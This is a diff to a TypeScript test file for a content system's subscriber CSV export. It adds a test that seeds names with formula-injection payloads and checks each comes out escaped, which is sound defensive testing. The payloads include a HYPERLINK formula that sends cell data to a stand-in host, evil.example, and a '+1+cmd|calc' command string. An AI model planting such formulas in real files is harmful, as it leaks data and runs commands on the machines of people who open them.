@@ -7,6 +7,7 @@ import type { Payload } from 'payload'
 import { beforeAll, describe, expect, it } from 'vitest'
 
 import { apiClient, signIn } from './helpers/api'
+import { createConfirmedSubscriber } from './helpers/fixtures'
 import { startTestPayload } from './helpers/testPayload'
 
 let payload: Payload
@@ -19,7 +20,7 @@ beforeAll(async () => {
   api = apiClient(started.config)
   for (const role of ['admin', 'editor', 'writer'] as const) tokens[role] = (await signIn(payload, role)).token
   for (const email of ['ruth@reader.example', 'sam@reader.example']) {
-    await payload.create({ collection: 'subscribers', data: { email, status: 'confirmed', firstName: 'Reader' } })
+    await createConfirmedSubscriber(payload, { email, firstName: 'Reader' })
   }
 })
 
@@ -37,6 +38,26 @@ describe('exporting subscribers', () => {
     expect(csv.split('\n')[0]).toMatch(/email/)
     expect(csv).toContain('ruth@reader.example')
     expect(csv).toContain('sam@reader.example')
+  })
+
+  it('writes no cell a spreadsheet would run as a formula, whatever got into the data', async () => {
+    // Sign-ups refuse such names; text can still come in through the admin, the API or an import.
+    const hostile = ['=HYPERLINK("https://evil.example/?"&A3,"Click")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1']
+    for (const [i, firstName] of hostile.entries()) {
+      await payload.create({ collection: 'subscribers', data: { email: `formula-${i}@reader.example`, status: 'pending', firstName, lastName: firstName } })
+    }
+    const response = await api.request('POST', '/api/exports/download', {
+      token: tokens.admin,
+      body: { data: { collectionSlug: 'subscribers', format: 'csv', fields: ['email', 'firstName', 'lastName'], limit: 100 } },
+    })
+    expect(response.status).toBe(200)
+    const csv = String(response.body)
+    for (const [i] of hostile.entries()) expect(csv).toContain(`formula-${i}@reader.example`)
+    // Each kept as text, behind an apostrophe...
+    expect(csv).toContain(`'=HYPERLINK(""https://evil.example/?""&A3,""Click"")`)
+    for (const start of ["'+1+cmd|calc", "'-2+3", "'@SUM(A1)", "'\t=1+1", "'\r=1+1"]) expect(csv).toContain(start)
+    // ...and no cell, quoted or not, starts with a formula character.
+    expect(csv).not.toMatch(/(^|\n|,)"?[=+\-@\t\r]/)
   })
 
   it.each(['public', 'writer', 'editor'])('gives %s nothing', async (who) => {
